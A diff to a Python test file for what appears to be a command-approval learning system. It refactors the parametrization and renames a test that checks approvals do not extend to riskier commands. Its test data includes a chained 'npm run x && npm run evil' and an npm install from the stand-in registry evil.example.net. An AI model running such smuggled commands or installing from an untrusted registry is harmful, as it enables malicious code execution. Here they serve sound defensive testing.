@@ -18,9 +18,10 @@ from tests.core.lab.test_learn import (
     run,
     write,
 )
+from tests.tables import each_row
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("asked", "wanted"),
     [
         (["npm run x"] * 3, ["npm run evil", "npm run x && npm run evil", "npm run",
@@ -101,7 +102,9 @@ def test_what_was_approved_is_no_way_to_more(asked: list[str], wanted: list[str]
           package("npm install a@1.0.0 --registry=https://evil.example.net")]),
     ],
 )  # fmt: skip
-def test_nor_in_other_categories(asked: list[Action], wanted: list[Action]) -> None:
+def test_what_was_approved_in_other_categories_is_no_way_to_more(
+    asked: list[Action], wanted: list[Action]
+) -> None:
     learned = learn(approved(*asked), NOTHING, now=NOW)
     assert learned.rules
     assert [
